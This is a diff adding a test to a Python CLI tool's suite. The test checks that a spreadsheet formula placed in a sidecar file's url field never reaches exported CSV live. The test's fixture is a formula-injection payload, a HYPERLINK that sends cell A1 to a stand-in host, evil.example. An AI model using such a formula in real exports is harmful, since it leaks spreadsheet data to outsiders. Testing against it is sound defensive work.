@@ -128,3 +128,18 @@ def test_empty_input_is_an_error(tmp_path, out):
     assert res.exit_code == 1 and "no records found" in res.output and "\ufeff" not in res.output
     res = CliRunner().invoke(cli, ["compare", str(out), "--kommun", "Kiruna"])
     assert res.exit_code == 1 and "no records match the filters (kommun Kiruna)" in res.output
+
+
+def test_a_formula_as_sidecar_url_never_reaches_a_sheet_live(tmp_path):
+    src = tmp_path / "in"
+    src.mkdir()
+    (src / "ale.txt").write_text(HOSTILE, encoding="utf-8")
+    url = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
+    (src / "ale.meta.json").write_text(json.dumps({"url": url}), encoding="utf-8")
+    res = CliRunner().invoke(cli, ["extract", str(src), "-o", str(tmp_path / "out")])
+    if res.exit_code == 0:  # the url is taken as it is: the CSV rule must hold
+        for text in (_cmp(tmp_path / "out"), _cmp(tmp_path / "out", "--activities")):
+            rows = list(csv.DictReader(io.StringIO(text)))
+            assert rows and all(r["url"] == "'" + url for r in rows)
+    else:  # or ingest refuses a url that is not http(s): one line naming the sidecar's document
+        assert res.exit_code == 1 and "ale" in res.output and "url" in res.output
